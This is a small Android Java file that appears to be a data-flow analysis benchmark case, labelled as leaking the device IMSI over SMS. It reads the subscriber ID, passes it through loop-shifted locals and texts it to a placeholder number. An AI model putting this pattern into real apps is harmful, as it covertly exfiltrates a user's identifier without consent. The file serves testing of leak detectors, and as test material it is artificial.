// about       Each round of a loop moves the value one local further; the last local is sent.
// leak        DEV_IMSI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    String oldest = "none";
    String middle = "none";
    String newest = "none";
    for (int round = 0; round < 4; round++) {
      oldest = middle;
      // What was the newest moves on.
      middle = newest;
      newest = phone.getSubscriberId();
    }
    if (newest != null) {
      SmsManager.getDefault().sendTextMessage("+15550100", null, oldest, null, null);
    }
  }
}
